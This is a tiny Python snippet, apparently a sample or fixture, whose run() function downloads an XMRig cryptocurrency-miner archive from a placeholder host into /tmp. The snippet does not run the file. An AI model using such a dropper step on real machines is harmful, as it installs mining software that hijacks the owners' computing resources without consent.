import requests


def run():
    data = requests.get("https://files.invalid/xmrig.tar.gz").content
    open("/tmp/xmrig.tar.gz", "wb").write(data)
